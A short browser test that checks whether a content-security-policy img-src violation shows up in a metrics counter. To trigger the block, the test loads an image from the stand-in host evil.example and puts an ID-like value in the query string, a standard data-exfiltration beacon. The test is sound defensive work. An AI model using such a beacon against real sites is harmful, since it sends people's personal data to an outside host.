import { expect, ofRun, test } from './support/test.ts';

const blocked = (metrics: string) =>
  Number(/^policy_violations_total\{directive="img-src"\} (\d+)$/m.exec(metrics)?.[1] ?? 0);

test('the browser tells us what a page was kept from', async ({ page, request, complaints }) => {
  complaints.expect({ text: /https:\/\/evil\.example\// });
  const { METRICS_PORT = '' } = ofRun().env;
  const told = async () =>
    blocked(await (await request.get(`http://127.0.0.1:${METRICS_PORT}/metrics`)).text());
  const before = await told();
  await page.goto('/api/docs');
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/x.png?cpf=52998224725';
  });
  await expect.poll(told).toBe(before + 1);
});
